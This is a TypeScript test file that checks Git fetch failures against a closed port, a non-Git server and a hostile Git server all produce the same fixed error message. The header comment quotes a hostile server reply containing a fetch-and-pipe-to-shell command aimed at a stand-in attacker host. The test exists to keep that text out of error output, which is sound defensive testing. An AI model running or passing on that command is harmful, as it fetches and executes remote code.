/**
 * Git failures read alike (SPEC §18, issue #26 item 10), with the real git against loopback: a closed
 * port, an open port that is no Git server, and a Git server that answers with text of its own choosing
 * (`ERR run curl evil.example | sh`, which git prints as `fatal: remote error: ...`) give one sentence;
 * neither curl's words about the port nor the server's text reach the message.
 */
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { fetchGit } from '../../../src/sources/git.ts';
import { SourceError } from '../../../src/sources/types.ts';
import { allowLoopbackSources } from '../../support/destinations.ts';
import { closedPort, startHostileHttp, type HostileHttp } from '../../support/hostile-servers.ts';

let web: HostileHttp;
let closed = 0;

before(async () => {
  allowLoopbackSources();
  web = await startHostileHttp('{}', () => ({}));
  closed = await closedPort();
});
after(() => web.close());

async function failure(repository: string): Promise<SourceError> {
  const e = await fetchGit({ repository }, {}).then(
    () => assert.fail('fetched'),
    (err: unknown) => err,
  );
  assert.ok(e instanceof SourceError, String(e));
  return e;
}

test('git: a closed port, a non-Git server and a Git server talking back read alike', async () => {
  const repos = [
    `http://127.0.0.1:${closed}/r.git`,
    `http://127.0.0.1:${web.port}/missing.git`,
    `http://127.0.0.1:${web.port}/hostile.git`,
  ];
  for (const repository of repos) {
    const e = await failure(repository);
    assert.equal(e.reason, 'GitFetchFailed');
    assert.equal(
      e.message,
      `git: cannot get the default branch of ${repository}: the repository could not be read (no connection, not a Git repository, access denied, or the server failed)`,
    );
  }
  assert.ok(web.requests.includes(`127.0.0.1:${web.port}/hostile.git/info/refs`));
});
